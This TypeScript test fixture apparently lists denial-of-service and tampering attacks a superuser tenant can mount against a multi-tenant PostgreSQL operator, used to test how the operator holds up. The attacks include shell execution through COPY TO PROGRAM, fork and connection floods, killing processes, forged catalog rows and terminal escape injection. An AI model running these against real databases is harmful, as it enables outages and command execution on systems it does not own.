import { type Client, escapeLiteral } from "pg";

export interface Attack {
  name: string;
  /** Run as the tenant. @param connect a session over the public port */
  run(connect: (database?: string) => Promise<Client>): Promise<unknown>;
  /**
   * What an `up` then says of this tenant: nothing, since it has put all right or is not impressed, or why it failed.
   */
  says: RegExp | "nothing";
  /** The tenant's entry, where the attack needs one of its own. */
  entry?: string;
}

/** Statements in `postgres`, which the operator's sessions use, and in the tenant's own database. */
const sql =
  (text: string, databases = ["postgres", undefined]): Attack["run"] =>
  async (connect) => {
    for (const database of databases) {
      const client = await connect(database);
      try {
        await client.query(text);
      } finally {
        await client.end().catch(() => {});
      }
    }
  };

/** The server calls functions of its own by their number: replaced in place, they stay what they are. */
const replaced = (name: string) =>
  `UPDATE pg_proc SET proname = 'former_' || proname WHERE proname = '${name}';`;

/** Starts a program in the server's container, which goes on when the session has ended. */
const program = (script: string): Attack["run"] => {
  // In base64 nothing needs quoting.
  const encoded = Buffer.from(script).toString("base64");
  const start = `echo ${encoded} | base64 -d >/tmp/attack; setsid bash /tmp/attack </dev/null >/dev/null 2>&1 &`;
  return async (connect) => {
    const client = await connect();
    await client.query(`COPY (SELECT '') TO PROGRAM ${escapeLiteral(start)}`);
    await client.end();
  };
};

/** Of each process but the server and this one, whose title matches, again and again. */
const forEach = (title: string, command: string) =>
  program(`
  while :; do
    for process in /proc/[2-9]* /proc/1[0-9]*; do
      [ "$process" != /proc/$$ ] || continue
      IFS= read -r -d '' title <$process/cmdline
      case $title in ${title}) ${command} ;; esac
    done 2>/dev/null
  done`);

/** What a tenant, its server's superuser, does to whoever asks its server: the operator's commands, and so its neighbours. */
export const attacks: Record<string, Attack> = {
  stops: {
    name: "stops every process in its container but the server",
    run: forEach("*", `kill -STOP \${process#/proc/}`),
    says: /gave no answer|does not accept connections/,
    entry: "cpus: 0.1",
  },
  kills: {
    name: "kills every psql in its container",
    run: forEach("*psql*", `kill -KILL \${process#/proc/}`),
    says: /Killed|went away|psql ended/,
    entry: "cpus: 0.1",
  },
  floods: {
    name: "writes without end to the output of every psql in its container",
    run: forEach("*psql*", `{ timeout 20 cat /dev/zero >$process/fd/1 & }`),
    says: /too much|MiB/,
    entry: "cpus: 0.1",
  },
  pipe: {
    name: "makes pg_hba.conf a pipe that nobody writes to, and has the server read it",
    run: program(`cd "$PGDATA" && mv pg_hba.conf kept && mkfifo pg_hba.conf && kill -HUP 1`),
    says: /gave no answer|does not accept connections/,
  },
  reads: {
    name: "replaces pg_catalog.pg_read_file by a function that sleeps",
    run: sql(`SET allow_system_table_mods = on;
      ${replaced("pg_read_file")}
      CREATE FUNCTION pg_catalog.pg_read_file(text) RETURNS text LANGUAGE plpgsql
        AS 'BEGIN PERFORM pg_catalog.pg_sleep(3600); RETURN ''''; END'`),
    says: /gave no answer/,
  },
  verifier: {
    name: "sets a verifier with 2147483647 iterations",
    run: sql(
      `UPDATE pg_authid SET rolpassword = 'SCRAM-SHA-256$2147483647:' || split_part(rolpassword, ':', 2) || ':'
                || split_part(rolpassword, ':', 3) WHERE rolname = 'postgres'`,
      ["postgres"],
    ),
    says: "nothing",
  },
  trigger: {
    name: "has a login trigger that sleeps, in every database",
    run: sql(`CREATE FUNCTION sleep() RETURNS event_trigger LANGUAGE plpgsql AS 'BEGIN PERFORM pg_sleep(3600); END';
      CREATE EVENT TRIGGER sleep ON login EXECUTE FUNCTION sleep(); ALTER EVENT TRIGGER sleep ENABLE ALWAYS`),
    says: "nothing",
  },
  connections: {
    name: "takes all its connections",
    run: program(`while :; do psql -U postgres -qc 'SELECT pg_sleep(3600)' & sleep 0.02; done`),
    says: "nothing",
    entry: "cpus: 0.1",
  },
  strangers: {
    name: "takes all its connections, from its own container, without logging in",
    run: program(
      `while :; do for n in {1..60}; do eval "exec $((n + 10))</dev/tcp/127.0.0.1/5432"; done; sleep 3; done`,
    ),
    says: "nothing",
  },
  forks: {
    name: "starts as many processes as it may",
    run: program(`while :; do sleep 3600 & done`),
    says: /as many processes as it may/,
    entry: "memory: 1Gi, cpus: 0.1",
  },
  rename: {
    name: "renames the role postgres",
    run: program(`psql -U postgres -c 'CREATE ROLE other SUPERUSER LOGIN'
      psql -U other -d postgres -c 'ALTER ROLE postgres RENAME TO former'`),
    says: /the role postgres does not exist/,
  },
  locks: {
    name: "locks the catalog of roles",
    run: program(`psql -U postgres -d postgres -c 'BEGIN; LOCK pg_catalog.pg_authid; SELECT pg_sleep(3600)'`),
    says: /gave no answer|canceling statement/,
  },
  databases: {
    name: "has 10,000 databases in its catalog",
    run: sql(
      `SET allow_system_table_mods = on;
      INSERT INTO pg_database SELECT (base).* FROM (SELECT jsonb_populate_record(one, jsonb_build_object(
          'oid', 100000 + number, 'datname', 'forged' || number)) AS base
        FROM (SELECT d AS one FROM pg_database d WHERE datname = 'template1') t, generate_series(1, 10000) AS number) f`,
      ["postgres"],
    ),
    says: "nothing",
  },
  library: {
    name: "makes its server unable to start",
    run: program(`psql -U postgres -c "ALTER SYSTEM SET shared_preload_libraries = 'missing'"; kill -INT 1`),
    says: /does not accept connections|restarts again and again|exited|missing/,
    entry: "cpus: 0.1",
  },
  message: {
    name: "answers with characters that steer a terminal",
    run: sql(`SET allow_system_table_mods = on;
      ${replaced("pg_ls_dir")}
      CREATE FUNCTION pg_catalog.pg_ls_dir(text) RETURNS SETOF text LANGUAGE plpgsql
        AS $$BEGIN RAISE EXCEPTION E'\\x1b]0;owned\\x07\\x1b[2J\\u0085'; END$$`),
    says: /\\x1b|\\u001b|owned/,
  },
};
